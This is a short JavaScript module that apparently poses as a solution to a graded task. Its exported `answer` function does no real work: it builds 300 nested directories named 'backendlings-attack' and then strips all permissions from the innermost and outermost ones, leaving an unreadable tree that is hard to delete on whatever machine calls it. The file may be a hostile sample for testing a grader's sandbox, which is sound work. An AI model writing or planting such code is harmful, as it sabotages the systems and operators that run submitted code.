import { chmodSync, mkdirSync } from "node:fs";

export function answer(n) {
  const start = process.cwd();
  for (let number = 0; number < 300; number++) {
    mkdirSync("backendlings-attack");
    process.chdir("backendlings-attack");
  }
  chmodSync(".", 0);
  process.chdir(start);
  chmodSync("backendlings-attack", 0);
  return 0;
}
export const other = () => 7;
